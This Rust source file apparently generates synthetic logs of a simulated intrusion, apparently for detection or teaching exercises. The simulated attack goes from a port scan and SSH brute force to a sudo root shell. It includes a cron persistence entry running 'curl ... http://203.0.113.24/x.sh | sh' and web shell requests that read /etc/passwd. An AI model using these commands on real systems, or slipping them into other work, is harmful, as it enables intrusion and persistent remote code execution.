//! What goes wrong on the day of the attack: in from outside, up to root, and there to stay.

use jiff::Timestamp;

use super::lines::{Exec, Line, Request, access, audit, exec, kernel, syslog};
use super::{HOSTS, SECOND, moment, traffic::blocked};

/// An attack.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    pub begins: Timestamp,
    /// How long what takes a second takes, in nanoseconds: whoever watches may not have a quarter of an hour.
    pub second: i128,
    /// The address that it comes from.
    pub from: &'static str,
    /// The host that it is after.
    pub host: &'static str,
}

impl Attack {
    /// The one that the story tells of a day: at 13:00, from 203.0.113.24.
    pub fn of_day(start: Timestamp) -> Self {
        let begins = moment(start, 13 * 3600 * SECOND);
        Self { begins, second: SECOND, from: "203.0.113.24", host: "web-1" }
    }

    /// Its lines, in order of time.
    pub fn lines(&self) -> Vec<Line> {
        let mut lines = Vec::new();
        self.port_scan(&mut lines);
        self.logins(&mut lines);
        self.root(&mut lines);
        self.cron_job(&mut lines);
        self.web_shell(&mut lines);
        lines.sort_by_key(|line| line.at);
        lines
    }

    fn at(&self, seconds: i128) -> Timestamp {
        moment(self.begins, seconds * self.second)
    }

    fn port_scan(&self, lines: &mut Vec<Line>) {
        const PORTS: [u16; 16] =
            [21, 22, 23, 25, 110, 135, 139, 143, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080];
        for (second, port) in (0..).zip(PORTS) {
            for (host, address) in HOSTS.iter().take(5) {
                let packet = blocked(self.from, address, 41_022 + port % 997, port);
                lines.push(kernel(self.at(second), host, &packet));
            }
        }
    }

    fn logins(&self, lines: &mut Vec<Line>) {
        let (from, host) = (self.from, self.host);
        let users = [
            "root",
            "invalid user admin",
            "root",
            "invalid user test",
            "deploy",
            "root",
            "invalid user oracle",
            "deploy",
        ];
        for (place, user) in (0_u16..).zip(users.iter().cycle().take(40)) {
            let message = format!("Failed password for {user} from {from} port {} ssh2", 50_000 + place);
            lines.push(syslog(
                self.at(300 + i128::from(place) * 3),
                host,
                "auth.log",
                &format!("sshd[{}]", 21_000 + place),
                &message,
            ));
        }
        let success = format!("Accepted password for deploy from {from} port 50111 ssh2");
        lines.push(syslog(self.at(450), host, "auth.log", "sshd[21044]", &success));
        lines.push(syslog(
            self.at(450),
            host,
            "auth.log",
            "sshd[21044]",
            "pam_unix(sshd:session): session opened for user deploy(uid=1100) by (uid=0)",
        ));
    }

    fn root(&self, lines: &mut Vec<Line>) {
        let host = self.host;
        let sudo = "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash";
        lines.push(syslog(self.at(480), host, "auth.log", "sudo", sudo));
        lines.push(syslog(
            self.at(480),
            host,
            "auth.log",
            "sudo",
            "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1100)",
        ));
        let shell =
            Exec { exe: "/usr/bin/bash", arguments: &["/bin/bash"], auid: 1100, uid: 0, cwd: "/home/deploy" };
        lines.extend(exec(self.at(480), host, 500_001, &shell));
    }

    fn cron_job(&self, lines: &mut Vec<Line>) {
        let (from, host) = (self.from, self.host);
        lines.extend(audit(self.at(520), host, 500_010, [
            (
                "SYSCALL",
                "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd3b0e a2=241 a3=1b6 items=2 ppid=21050 pid=21061 \
                 auid=1100 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=77 comm=\"tee\" exe=\"/usr/bin/tee\" \
                 subj=unconfined key=\"cron\""
                    .to_owned(),
            ),
            ("CWD", "cwd=\"/root\"".to_owned()),
            ("PATH", "item=0 name=\"/etc/cron.d/\" inode=131156 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT".to_owned()),
            ("PATH", "item=1 name=\"/etc/cron.d/sysstat2\" inode=131337 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE".to_owned()),
            ("PROCTITLE", "proctitle=746565002F6574632F63726F6E2E642F7379737374617432".to_owned()),
        ]));
        for minute in 0..3_u32 {
            let at = self.at(540 + i128::from(minute) * 60);
            let message = format!("(root) CMD (curl -fsSL http://{from}/x.sh | sh)");
            lines.push(syslog(at, host, "syslog", "CRON[21101]", &message));
            let command = format!("curl -fsSL http://{from}/x.sh | sh");
            let arguments = ["/bin/sh", "-c", command.as_str()];
            let fetched = Exec { exe: "/usr/bin/dash", arguments: &arguments, auid: 0, uid: 0, cwd: "/root" };
            lines.extend(exec(at, host, 500_020 + u64::from(minute), &fetched));
        }
    }

    fn web_shell(&self, lines: &mut Vec<Line>) {
        for (place, command) in (0..).zip(["id", "uname%20-a", "cat%20/etc/passwd"]) {
            let request = format!("POST /uploads/images/cache.php?cmd={command}");
            let shell = Request {
                client: self.from,
                target: &request,
                status: 200,
                size: 512,
                referer: "-",
                agent: "python-requests/2.32.3",
            };
            lines.push(access(self.at(800 + place * 20), self.host, &shell));
        }
    }
}
